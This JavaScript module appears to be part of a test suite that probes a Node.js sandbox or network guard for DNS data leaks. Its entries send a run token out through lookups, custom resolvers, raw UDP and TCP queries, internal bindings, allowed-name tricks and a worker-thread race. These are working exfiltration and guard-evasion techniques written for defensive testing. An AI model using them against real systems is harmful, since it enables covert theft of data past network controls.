/** Data sent in names to resolve. The effect: a name server received a query for a name with the run's token. */
'use strict';
const dns = require('node:dns');

exports.category = 'network';

const name = (lab) => `${lab.token}.${lab.otherName}`;
/** Short limits: if a guard blocks the query, the resolver fails soon. */
const patience = { timeout: 400, tries: 1 };

/** Returns a query for a name in wire format. */
function query(lab, asked = name(lab)) {
  const labels = asked
    .split('.')
    .map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
  return Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
}

const settled = (start) => new Promise((done) => start((error) => done(error?.code)));

exports.attacks = {
  'dns.lookup': { run: (lab) => settled((done) => dns.lookup(name(lab), done)) },
  'dns.lookup of a name beneath an allowed one': { run: (lab) => settled((done) => dns.lookup(`${lab.token}.${lab.allowedName}`, done)) },
  'dns.lookup of a name that ends like an allowed one': { run: (lab) => settled((done) => dns.lookup(`${lab.token}${lab.allowedName}`, done)) },
  'dns.lookup with a final dot and capitals': { run: (lab) => settled((done) => dns.lookup(`${name(lab).toUpperCase()}.`, done)) },
  'dns.promises.lookup': { run: (lab) => dns.promises.lookup(name(lab), { all: true }) },
  'dns.lookup by http.get': {
    run: (lab) => settled((done) => require('node:http').get(`http://${name(lab)}/`).on('error', done)),
  },
  'dns.lookup by fetch': { run: (lab) => fetch(`http://${name(lab)}/`) },
  'dns.lookup by UDP to a name': {
    run: (lab) => {
      const socket = require('node:dgram').createSocket('udp4');
      return settled((done) => socket.on('error', done).send('x', 9, name(lab), done)).finally(() => socket.close());
    },
  },
  'dns.lookupService': {
    // The token is the lower half of the address in the reverse query.
    run: (lab) => settled((done) => dns.lookupService(`2001:db8::${lab.token.match(/.{4}/g).join(':')}`, 80, done)),
  },
  'dns.resolve4': { run: (lab) => settled((done) => dns.resolve4(name(lab), done)) },
  'dns.resolveTxt': { run: (lab) => settled((done) => dns.resolveTxt(name(lab), done)) },
  'dns.resolveAny': { run: (lab) => settled((done) => dns.resolveAny(name(lab), done)) },
  'dns.reverse': { run: (lab) => settled((done) => dns.reverse(`2001:db8::${lab.token.match(/.{4}/g).join(':')}`, done)) },
  'dns.promises.resolve': { run: (lab) => new dns.promises.Resolver(patience).resolve(name(lab), 'MX') },
  'Resolver with a server of its own': {
    run: (lab) => {
      const resolver = new dns.Resolver(patience);
      resolver.setServers([lab.host]);
      return settled((done) => resolver.resolve4(name(lab), done));
    },
  },
  'Resolver with a server and port of its own': {
    run: (lab) => {
      const resolver = new dns.promises.Resolver(patience);
      resolver.setServers([`${lab.host}:${lab.ports.udp}`]);
      return resolver.resolveTxt(name(lab));
    },
  },
  'Resolver that asks for an allowed name first': {
    run: async (lab) => {
      const resolver = new dns.promises.Resolver(patience);
      await resolver.resolve4(lab.allowedName).catch(() => undefined);
      await resolver.resolve4(name(lab));
    },
  },
  'dns.setServers for the whole process': {
    run: (lab) => {
      dns.setServers([lab.host]);
      return new dns.promises.Resolver(patience).resolve4(name(lab));
    },
  },
  'handle of a Resolver': {
    run: (lab) => {
      const resolver = new dns.Resolver(patience);
      const Request = process.binding('cares_wrap').QueryReqWrap;
      return new Promise((done) => {
        const request = Object.assign(new Request(), { bindingName: 'queryTxt', hostname: name(lab), oncomplete: done });
        resolver._handle.queryTxt(request, name(lab));
      });
    },
  },
  'getaddrinfo of the binding': {
    run: (lab) => {
      const { getaddrinfo, GetAddrInfoReqWrap } = process.binding('cares_wrap');
      return new Promise((done) => {
        const request = Object.assign(new GetAddrInfoReqWrap(), { callback: done, family: 0, hostname: name(lab), oncomplete: done });
        if (getaddrinfo(request, name(lab), 0, 0, 0)) done();
      });
    },
  },
  'a query by UDP to the name server': {
    run: (lab) => {
      const socket = require('node:dgram').createSocket('udp4');
      return new Promise((done, failed) => {
        socket.on('error', failed);
        socket.send(query(lab), 53, lab.nameserver, (error) => (error ? failed(error) : done()));
      }).finally(() => socket.close());
    },
  },
  'a query by UDP to the name server, connected': {
    run: (lab) => {
      const socket = require('node:dgram').createSocket('udp4');
      return new Promise((done, failed) => {
        socket.on('error', failed);
        socket.connect(53, lab.nameserver, (error) => (error ? failed(error) : socket.send(query(lab), done)));
      }).finally(() => socket.close());
    },
  },
  'a query by UDP to the name server, which a worker changes': {
    means: ['worker'],
    run: async (lab) => {
      const texts = [query(lab, lab.allowedName), query(lab, `${lab.token}.co`)];
      const memory = new SharedArrayBuffer(texts[0].length);
      Buffer.from(memory).set(texts[0]);
      const code = `
        const { memory, texts } = require('node:worker_threads').workerData;
        const bytes = new Uint8Array(memory);
        for (const end = Date.now() + 2000; Date.now() < end; ) for (const text of texts) bytes.set(text);`;
      const { Worker } = require('node:worker_threads');
      const worker = new Worker(code, { eval: true, workerData: { memory, texts } });
      const ended = new Promise((done) => worker.on('exit', done).on('error', done));
      const socket = require('node:dgram').createSocket('udp4');
      const end = Date.now() + 2000;
      while (Date.now() < end) {
        socket.send(Buffer.from(memory), 53, lab.nameserver, () => undefined);
        await new Promise(setImmediate);
      }
      socket.close();
      await ended;
    },
  },
  'a query by TCP to the name server': {
    run: (lab) =>
      new Promise((done, failed) => {
        const socket = require('node:net').connect(53, lab.nameserver);
        const length = Buffer.from([0, query(lab).length]);
        socket.on('error', failed).on('connect', () => socket.write(Buffer.concat([length, query(lab)]), done));
      }),
  },
  'in a worker': { run: (lab) => lab.inWorker(`lab.attack('dns', 'dns.resolveTxt')`, { env: {}, execArgv: [] }) },
};
